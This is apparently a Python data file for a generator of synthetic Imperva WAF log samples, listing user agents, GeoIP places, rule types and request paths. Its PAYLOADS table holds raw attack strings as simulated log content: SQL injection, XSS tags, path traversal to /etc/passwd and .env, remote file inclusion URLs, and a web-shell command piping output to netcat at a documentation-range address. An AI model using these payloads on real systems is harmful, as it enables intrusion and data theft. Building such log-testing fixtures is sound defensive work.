"""Static vocabulary of the sample generator: user agents, places, paths, rules, actions.

Kept apart from the event model so the model reads as logic and this file as data. Every value
comes from, or is shaped like, the public samples quoted in FORMATS.md (§2.3, §3, §7): the same
PoP codes, ``act`` values, rule names and user agents a real Imperva feed carries, with addresses
only from the documentation ranges (RFC 5737 IPv4, RFC 3849 IPv6) so no real host appears.
"""

from __future__ import annotations

from typing import NamedTuple


class Place(NamedTuple):
    """A GeoIP answer as Imperva writes it: country, city *name* (``cicode``), lat/long text."""

    ccode: str
    city: str | None  # None: GeoIP knew only the country (then lat/long is the country centroid)
    lat: str
    lon: str


# Unicode city names on purpose (FORMATS Appendix C: unicode in values); ``Al 'Ayyat`` carries the
# apostrophe quirk of §3.9.
PLACES: tuple[Place, ...] = (
    Place("US", "Atlanta", "33.7485", "-84.3871"),
    Place("US", "Washington", "38.894", "-77.0365"),
    Place("US", None, "37.751", "-97.822"),
    Place("IL", "Rehovot", "31.8969", "34.8186"),
    Place("DE", "Frankfurt am Main", "50.1155", "8.6842"),
    Place("DE", "Düsseldorf", "51.2217", "6.7762"),
    Place("CH", "Zürich", "47.3769", "8.5417"),
    Place("BR", "São Paulo", "-23.5475", "-46.6361"),
    Place("PL", "Kraków", "50.0614", "19.9366"),
    Place("EG", "Al 'Ayyat", "29.6196", "31.2575"),
    Place("UA", "Kyiv", "50.5183", "30.5088"),
    Place("GB", "London", "51.5085", "-0.1257"),
    Place("FR", "Paris", "48.8534", "2.3488"),
    Place("CA", "Montréal", "45.5088", "-73.5878"),
    Place("IS", "Reykjavík", "64.1355", "-21.8954"),
    Place("JP", "Tokyo", "35.6895", "139.6917"),
    Place("SG", "Singapore", "1.2897", "103.8501"),
    Place("IN", "Mumbai", "19.0728", "72.8826"),
    Place("NL", "Amsterdam", "52.374", "4.8897"),
    Place("CN", "Beijing", "39.9075", "116.3972"),
    Place("RU", "Moscow", "55.7522", "37.6156"),
)
# Countries a site's ACL blocks: "Blocked country" events come from these.
BLOCKED_COUNTRIES = frozenset({"CN", "RU"})

POPS: tuple[str, ...] = ("mia", "fra", "atl", "iad", "cdg", "den", "war", "lhr", "ams", "sin", "nrt")


class Agent(NamedTuple):
    """A client as Imperva classifies it: User-Agent, ``cs6`` clapp, ``dproc``, JS/cookie support."""

    ua: str
    clapp: str
    dproc: str
    js: str
    co: str


BROWSERS: tuple[Agent, ...] = (
    Agent(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36",
        "Chrome", "Browser", "true", "true",
    ),
    Agent(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:128.0) Gecko/20100101 Firefox/128.0",
        "Firefox", "Browser", "true", "true",
    ),
    Agent(
        "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Safari/605.1.15",
        "Safari", "Browser", "true", "true",
    ),
    Agent(
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/99.0.0.0 Safari/537.36 Edg/99.0.0.0",
        "Edge", "Browser", "true", "true",
    ),
    Agent(
        "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1",
        "Mobile Safari", "Browser", "true", "true",
    ),
    Agent(
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Mobile Safari/537.36",
        "Chrome Mobile", "Browser", "true", "false",
    ),
    Agent(
        "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:40.0) Gecko/20100101 Firefox/40.0",
        "Firefox", "Browser", "false", "true",
    ),
    # Unicode and pipes inside a UA (FORMATS §2.1, §3.9).
    Agent("Mozilla/5.0 (Linux; Android 13; ZÜRICH-Tab) MeineApp/2.1 (Städte; de-CH)", "Webkit Browser", "Browser", "true", "true"),
    Agent("Android 11(70) | prodLalaland 1.47.9(162) | Redmi M2000K6G", "Android App", "Unclassified", "false", "true"),
    Agent("Weibo/12.3 (iPhone; iOS 17.2; 简体中文)", "Webkit Browser", "Browser", "true", "true"),
)

# Crawlers and tools (dproc Crawler / Developer Tool / Unclassified, FORMATS §2.3 ``dproc``).
BOTS: tuple[Agent, ...] = (
    Agent("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "Googlebot", "Crawler", "false", "false"),
    Agent("Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)", "Bingbot", "Crawler", "false", "false"),
    Agent(
        "Expanse indexes the network perimeters of our customers. If you have any questions or concerns, please reach out to: scanner@example.com",
        "Expanse", "Crawler", "false", "false",
    ),
    # HTML entity kept as sent (FORMATS §2.6 quirk 10).
    Agent(
        "Expanse, a Palo Alto Networks company, searches across the global IPv4 space multiple times per day to identify customers&#39; presences on the Internet.",
        "Go HTTP library", "Developer Tool", "false", "false",
    ),
    Agent("curl/8.5.0", "curl", "Developer Tool", "false", "false"),
    Agent("python-requests/2.31.0", "Python Requests", "Developer Tool", "false", "false"),
    Agent("Go-http-client/1.1", "Go HTTP library", "Developer Tool", "false", "false"),
)

# Attack tools; one opens with an unbalanced quote (FORMATS §3.9), one has ``=`` inside.
ATTACK_TOOLS: tuple[Agent, ...] = (
    Agent("sqlmap/1.7.2#stable (https://sqlmap.org)", "Bot", "Unclassified", "false", "false"),
    Agent('"Xpanse-bot', "Bot", "Unclassified", "false", "false"),
    Agent("Mozilla/5.0 zgrab/0.x", "Bot", "Unclassified", "false", "false"),
    Agent("Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/85.0.4183.102 Safari/537.36", "Bot", "Unclassified", "false", "false"),
    Agent("Nuclei - Open-source project (github.com/projectdiscovery/nuclei) build=3.2", "Bot", "Unclassified", "false", "false"),
    Agent('"Mozilla/5.0 (compatible; MSIE 9.0; Windows NT 6.1; Trident/5.0)"', "Bot", "Unclassified", "false", "false"),
)

PATHS: tuple[str, ...] = (
    "/", "/", "/", "/index.html", "/main.css", "/static/js/app.3f2a1c.js", "/images/logo.png",
    "/favicon.ico", "/robots.txt", "/products/42", "/products", "/api/v1/cart", "/api/v1/orders",
    "/search", "/login", "/account", "/blog/2024/06/über-uns", "/café/menü", "/商品/列表",
)
QUERIES: tuple[str, ...] = (
    "id=42", "utm_source=newsletter&utm_medium=email", "q=caf%C3%A9", "page=2&sort=price",
    "q=zürich hotels", "lang=de-CH",
)
REFERRERS: tuple[str, ...] = (
    "https://www.example.com/", "www.example.org/lama", "https://www.google.com/search?q=example+shop",
    "https://shop.example.com/products", "android-app://com.example.app/",
)
METHODS: tuple[str, ...] = ("GET",) * 14 + ("POST", "POST", "POST", "HEAD", "PUT", "OPTIONS", "DELETE")
TLS: tuple[str, ...] = (
    "TLSv1.2 ECDHE-RSA-AES128-GCM-SHA256",
    "TLSv1.3 TLS_AES_128_GCM_SHA256",
    "TLSv1.3 TLS_AES_256_GCM_SHA384",
    "TLSv1.2 ECDHE-ECDSA-AES256-GCM-SHA384",
)

# Access outcomes (FORMATS §7.2) with weights; REQ_BAD_* carry the failure's status codes.
ACCESS_ACTS: tuple[tuple[str, int], ...] = (
    ("REQ_PASSED", 60),
    ("REQ_CACHED_FRESH", 20),
    ("REQ_CACHED_VALIDATED", 5),
    ("REQ_CACHED_WEBSITE", 2),
    ("REQ_BAD_CLIENT_CLOSED_CONNECTION", 3),
    ("REQ_BAD_SERVER_CLOSED_CONNECTION", 1),
    ("REQ_BAD_TIMEOUT", 1),
    ("REQ_BAD_CONNECTION_TO_SERVER", 1),
)
PASSED_STATUS: tuple[int, ...] = (200,) * 20 + (301, 302, 304, 304, 404, 404, 500)
BAD_STATUS: dict[str, int] = {
    "REQ_BAD_SERVER_CLOSED_CONNECTION": 502,
    "REQ_BAD_TIMEOUT": 504,
    "REQ_BAD_CONNECTION_TO_SERVER": 502,
}

# cs10 delivery-rule JSON (FORMATS §2.3, §3.7): header rewrites, one with ``'self'`` and spaces.
RULE_INFOS: tuple[dict[str, str], ...] = (
    {"rule_id": "1234567", "type": "AD_HEADER_RW", "header_name": "Host",
     "header_orig": "example.com", "header_rewrite": "www.example.com"},
    {"rule_id": "4709724", "type": "AD_HEADER_RW", "header_name": "Content-Security-Policy",
     "header_rewrite": "frame-ancestors 'self' https://example.com https://test1.example.com"},
    {"rule_id": "5500123", "type": "AD_HEADER_RW", "header_name": "Cookie",
     "header_orig": "ab=1", "header_rewrite": "ab=2; region=eu"},
)
REQ_HEADERS: tuple[list[dict[str, str]], ...] = (
    [{"Accept": "*/*"}, {"x-v": "1"}, {"x-fapi-interaction-id": "10.10.10.10"}],
    [{"Content-Type": "application/json"}, {"X-Request-Id": "a1b2c3"}],
    [{"Accept-Language": "de-CH,de;q=0.9,en;q=0.8"}, {"X-Client": "Zürich-Kiosk"}],
)
RES_HEADERS: tuple[list[dict[str, str]], ...] = (
    [{"Content-Type": "text/html; charset=UTF-8"}],
    [{"Content-Type": "application/json; charset=utf-8"}, {"Cache-Control": "max-age=60"}],
)

AA_NAMES: tuple[str, ...] = (
    "Illegal Resource Access attack from a single IP using Chrome Browser",
    "SQL Injection attack from multiple IPs using sqlmap",
    "Bot Access Control attack from 3 countries using Bot",
)


class AttackKind(NamedTuple):
    """A rule type of FORMATS §2.2 with its outcomes and the (fileType, filePermission, cs9)
    triples it reports."""

    name: str
    rule_type: int
    weight: int
    acts: tuple[str, ...]
    entries: tuple[tuple[str, str, str], ...]


ATTACKS: tuple[AttackKind, ...] = (
    AttackKind("SQL Injection", 0, 20,
               ("REQ_BLOCKED_SESSION",) * 5 + ("REQ_BLOCKED", "REQ_BLOCKED", "REQ_PASSED", "REQ_BLOCKED_SECURITY"),
               (("12999", "37", ""), ("30037", "2", "High Risk SQL Expressions"), ("50037", "1", "SQL SELECT Expression"),
                ("50044", "1", ""), ("50033", "666", "SQL Injection"))),
    AttackKind("Cross Site Scripting", 1, 15, ("REQ_BLOCKED_SESSION",) * 4 + ("REQ_PASSED", "REQ_BLOCKED_VISITOR"),
               (("20001", "4", "XSS Script Tag"), ("20007", "9", "XSS Event Handler"), ("1001", "1", ""))),
    AttackKind("Illegal Resource Access", 3, 15, ("REQ_BLOCKED_SESSION", "REQ_BLOCKED_SESSION", "REQ_CHALLENGE_CAPTCHA", "REQ_PASSED"),
               (("30037", "2", "Block Malicious User"), ("1001", "1", "High Risk Resources"), ("30045", "5", "Path Traversal"))),
    AttackKind("Bot Access Control", 4, 10,
               ("REQ_CHALLENGE_CAPTCHA", "REQ_CHALLENGED_CAPTCHA", "REQ_BLOCKED_VISITOR", "REQ_BLOCKED_COOKIELESS_SESSION"),
               (("40001", "3", "Suspected Bot"), ("40005", "8", "Bad Reputation Bot"))),
    AttackKind("DDoS", 8, 6, ("REQ_BLOCKED_DDOS",) * 4 + ("REQ_CHALLENGE_CAPTCHA",), (("80001", "1", "DDoS Protection"),)),
    AttackKind("Backdoor Protect", 9, 4, ("REQ_BLOCKED_SESSION", "REQ_BLOCKED_SECURITY"),
               (("90001", "12", "Backdoor Protection"), ("90002", "13", "Web Shell Access"))),
    AttackKind("Remote File Inclusion", 10, 5, ("REQ_BLOCKED_SESSION", "REQ_BLOCKED_SESSION", "REQ_PASSED"),
               (("10001", "7", "Remote File Inclusion"), ("10003", "2", ""))),
    AttackKind("IncapRules", 11, 10, ("REQ_BLOCKED_SECURITY",) * 3 + ("REQ_CHALLENGE_CAPTCHA", "REQ_PASSED"),
               (("110001", "1", "Block admin from outside"), ("110002", "1", "Rate limit login"))),
    # The violation's own entry goes last; cs11's leading commas point at it (see _api_violation).
    AttackKind("API Specification Violation", 12, 4, ("REQ_BLOCKED_SECURITY", "REQ_PASSED"),
               (("30037", "2", "Block Malicious User"), ("1001", "1", "High Risk Resources"),
                ("60001", "1", "API Specification Violation"))),
    AttackKind("Account Takeover Protection", 13, 4, ("REQ_BLOCKED", "REQ_CHALLENGE_CAPTCHA"),
               (("70001", "1", "Credential Stuffing"), ("70002", "2", "Brute Force"))),
    AttackKind("Bad Bot", 14, 5, ("REQ_BLOCKED_VISITOR", "REQ_BLOCKED_VISITOR", "REQ_CHALLENGED_CAPTCHA", "REQ_BLOCKED"),
               (("140001", "1", "Bad Bot"), ("140002", "3", "Known Violator"))),
    AttackKind("Blocked country", -1, 6, ("REQ_BLOCKED_ACL",) * 3 + ("REQ_BLOCKED",), ()),
)
INCAP_RULE_NAMES = ("Block admin from outside", "Rate limit login", "Temp_dump")

# Raw payloads per rule type: (path, qstr, postbody); None keeps the ordinary value.
PAYLOADS: dict[int, tuple[tuple[str | None, str | None, str | None], ...]] = {
    0: ((None, "id=1' OR 1=1--", None), (None, "id=1%27%20OR%201%3D1--", None),
        ("/login", None, "username=admin' OR 1=1--&password=x"),
        (None, "keywords=3)))%20AND%203434%3d(SELECT%20CASE%203434%20WHEN%203434%20THEN%201%20ELSE%200%20END)", None)),
    1: ((None, "q=<script>alert(1)</script>", None), (None, "q=%3Cscript%3Ealert(1)%3C%2Fscript%3E", None),
        ("/comments", None, "comment=<img src=x onerror=alert(1)>")),
    3: (("/static/../../etc/passwd", None, None), (None, "file=../../etc/passwd", None), (None, "p=%2fetc%2fpasswd", None),
        ("/.env", None, None), ("/.git/config", None, None), ("/wp-config.php.bak", None, None)),
    9: (("/wp-content/uploads/shell.php", "cmd=id | nc 203.0.113.66 4444", None), ("/c99.php", None, "c=system('id');")),
    10: ((None, "page=http://203.0.113.66/shell.txt?", None), (None, "inc=https://198.51.100.77/r57.txt", None)),
    11: (("/admin", None, None), ("/wp-login.php", None, None), ("/login", None, "user=bob&pass=hunter2")),
    12: (("/api/v1/orders", None, '{"sku":"A-1","qty":2,"coupon":"x=1"}'),),
    13: (("/login", None, "username=alice%40example.com&password=%2A%2A%2A%2A"),),
}
API_VIOLATIONS = ("INVALID_PARAM_NAME", "MISSING_PARAM", "INVALID_PARAM_VALUE", "INVALID_METHOD")
